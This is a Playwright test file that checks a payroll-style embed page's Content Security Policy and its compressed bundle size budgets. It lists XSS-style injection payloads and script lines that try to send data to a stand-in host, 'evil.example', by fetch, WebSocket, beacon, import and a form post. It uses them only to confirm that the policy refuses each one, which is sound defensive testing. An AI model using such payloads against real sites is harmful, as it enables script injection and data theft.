/**
 * The page of an embed under its policy: what injected HTML or script could do, and what the first script does with the
 * secret in the address. The page's frame-ancestors are the service's.
 */
import { readFileSync, statSync } from "node:fs"
import { join } from "node:path"
import { gzipSync } from "node:zlib"
import type { Browser, Page } from "playwright-core"
import { beforeAll, describe, expect, it } from "vitest"
import type { BuiltEmbeds } from "../src/build/buildEmbeds.ts"
import { isWithoutBrowser } from "./browser.ts"
import { sharedBrowser, sharedEmbeds } from "./shared.ts"

const SERVICE = "https://api.embedded-super.example"
const EVIL = "https://evil.example"
const ADDRESS = `${SERVICE}/embed/v1/onboarding-session/1?nonce=n&signed=secret`

/** Pieces of HTML to inject, and the directive that refuses each. */
const injected: ReadonlyArray<readonly [html: string, directive: string]> = [
  [`<script>hacked = "inline"</script>`, "script-src-elem"],
  [`<script src="${EVIL}/script.js"></script>`, "script-src-elem"],
  [`<script type="module" src="${EVIL}/module.js"></script>`, "script-src-elem"],
  [`<img src="data:," onerror="hacked = 'attribute'">`, "script-src-attr"],
  [`<a id="press" href="javascript:hacked='link'">x</a>`, "script-src-elem"],
  [`<style>body{color:red}</style>`, "style-src-elem"],
  [`<link rel="stylesheet" href="${EVIL}/style.css">`, "style-src-elem"],
  [`<p style="color:red">x</p>`, "style-src-attr"],
  [`<img src="${EVIL}/pixel.png">`, "img-src"],
  [`<iframe src="${EVIL}/frame"></iframe>`, "frame-src"],
  [`<object data="${EVIL}/object"></object>`, "object-src"],
  [`<video src="${EVIL}/video"></video>`, "media-src"],
  [`<base href="${EVIL}/">`, "base-uri"],
  [`<form id="send" action="${EVIL}/form" method="post"><input name="tfn"></form>`, "form-action"]
]

/** Scripts to try in the page, as text, and the directive that refuses each. */
const tried: ReadonlyArray<readonly [script: string, directive: string]> = [
  [`fetch("${EVIL}/fetch").catch(() => {})`, "connect-src"],
  [`new WebSocket("wss://evil.example/socket")`, "connect-src"],
  [`navigator.sendBeacon("${EVIL}/beacon", "x")`, "connect-src"],
  [`import("${EVIL}/import.js").catch(() => {})`, "script-src-elem"],
  [`document.body.innerHTML = "<b>x</b>"`, "require-trusted-types-for"],
  [`document.createElement("script").text = "hacked = 'text'"`, "require-trusted-types-for"],
  [`trustedTypes.createPolicy("own", {})`, "trusted-types"]
]

interface Watched {
  readonly violations: Array<string>
  readonly hacked?: string
  /** The query of the address when the service was first asked. */
  readonly asked?: string
}

const watch = () => {
  const violations: Array<string> = []
  const ask = globalThis.fetch
  Object.assign(globalThis, {
    violations,
    fetch: (...request: Parameters<typeof fetch>) => {
      ;(globalThis as { asked?: string }).asked ??= location.search
      return ask(...request)
    }
  })
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective))
}

describe.skipIf(isWithoutBrowser)("the page of an embed", () => {
  let browser: Browser
  let built: BuiltEmbeds
  let folder: string

  beforeAll(async () => {
    ;[browser, { built, folder }] = await Promise.all([sharedBrowser(), sharedEmbeds()])
  })

  /** The page with this in its body; the service answers nothing. `elsewhere` are the requests to other hosts. */
  const open = async (html = "") => {
    const { pages, policy } = built.apps.onboarding
    const context = await browser.newContext()
    const page = await context.newPage()
    await page.addInitScript(watch)
    const elsewhere: Array<string> = []
    await context.route("**/*", (route) => {
      const { origin, pathname } = new URL(route.request().url())
      if (origin !== SERVICE) elsewhere.push(route.request().url())
      if (pathname.startsWith("/embed/assets/")) {
        const body = readFileSync(join(folder, pathname.slice("/embed/assets/".length)))
        return route.fulfill({ contentType: "text/javascript", body })
      }
      if (!pathname.startsWith("/embed/v1/")) return route.abort()
      const text = readFileSync(join(folder, pages["en-AU"]!), "utf8")
      return route.fulfill({
        contentType: "text/html; charset=utf-8",
        headers: { "content-security-policy": policy },
        body: text.replace("<noscript>", `${html}<noscript>`)
      })
    })
    await page.goto(ADDRESS)
    return { page, elsewhere, close: () => context.close() }
  }

  const watched = (page: Page): Promise<Watched> =>
    page.evaluate(() => {
      const { asked, hacked, violations } = globalThis as unknown as Watched
      return {
        violations,
        ...(asked === undefined ? {} : { asked }),
        ...(hacked === undefined ? {} : { hacked })
      }
    })

  it("runs, shows and asks nothing that was injected into it", async () => {
    const { close, elsewhere, page } = await open(injected.map(([html]) => html).join(""))
    await page.evaluate(() => {
      document.querySelector<HTMLElement>("#press")?.click()
      document.querySelector<HTMLFormElement>("#send")?.submit()
    })
    const refused = injected.map(([, directive]) => directive).toSorted()
    await expect.poll(async () => (await watched(page)).violations.toSorted()).toEqual(refused)
    expect((await watched(page)).hacked).toBeUndefined()
    expect(elsewhere).toEqual([])
    await close()
  })

  it("lets no script reach another host, or make HTML or script of a text", async () => {
    const { close, elsewhere, page } = await open()
    for (const [script, directive] of tried) {
      await page.evaluate(`violations.length = 0; try { ${script} } catch {}`)
      await expect
        .poll(async () => (await watched(page)).violations, { message: script })
        .toContain(directive)
    }
    expect((await watched(page)).hacked).toBeUndefined()
    expect(elsewhere).toEqual([])
    await close()
  })

  it("itself breaks no rule of its policy, and asks the service when the secret has left the address", async () => {
    const { close, page } = await open()
    await page.getByRole("status").first().waitFor()
    await page.waitForFunction(() => "asked" in globalThis)
    expect(await watched(page)).toEqual({ violations: [], asked: "" })
    expect(page.url()).toBe(ADDRESS.split("?")[0])
    await close()
  })
})

/** A file, or files together, and the bytes that they may have. */
interface Size {
  readonly what: string
  readonly bytes: number
  readonly budget: number
}

/** The sizes of the embeds that are built into a folder, compressed as browsers get them. */
const sizesIn = (folder: string): ReadonlyArray<Size> => {
  const { apps } = JSON.parse(readFileSync(join(folder, "embeds.json"), "utf8")) as BuiltEmbeds
  const sizeOf = (name: string) => statSync(join(folder, name)).size
  const pageOf = (app: keyof typeof apps) => readFileSync(join(folder, apps[app].pages["en-AU"]!), "utf8")
  const scriptsOf = (app: keyof typeof apps): number => {
    const names = [...pageOf(app).matchAll(/\/embed\/assets\/([\w-]+\.js)/g)].map(([, name]) => name!)
    return names.reduce((sum, name) => sum + sizeOf(`${name}.gz`), 0)
  }
  const [, style = ""] = /<style>([^]*?)<\/style>/.exec(pageOf("onboarding")) ?? []
  return [
    { what: "employee embed, script and words, gz", bytes: scriptsOf("onboarding"), budget: 45_000 },
    { what: "employer embed, script and words, gz", bytes: scriptsOf("super_settings"), budget: 40_000 },
    { what: "intent embed, script and words, gz", bytes: scriptsOf("intent"), budget: 27_500 },
    ...["embedded-super.js", "embedded-super.mjs"].map((name) => ({
      what: `loader ${name}, gz`,
      bytes: sizeOf(`${name}.gz`),
      budget: 3000
    })),
    ...Object.values(apps)
      .flatMap(({ pages }) => Object.values(pages))
      .map((page) => ({ what: `page ${page}, br`, bytes: sizeOf(`${page}.br`), budget: 3500 })),
    { what: "style sheet, gz", bytes: gzipSync(style, { level: 9 }).length, budget: 6000 }
  ]
}

// The bytes that a person's phone loads. They are printed; over budget fails.

const { folder } = await sharedEmbeds()

const kilobytes = (bytes: number) => `${(bytes / 1000).toFixed(2)} kB`

it.each(sizesIn(folder))("$what", ({ budget, bytes, what }) => {
  console.log(`${what}: ${kilobytes(bytes)} of ${kilobytes(budget)}`)
  expect(bytes).toBeGreaterThan(0)
  expect(bytes).toBeLessThanOrEqual(budget)
})
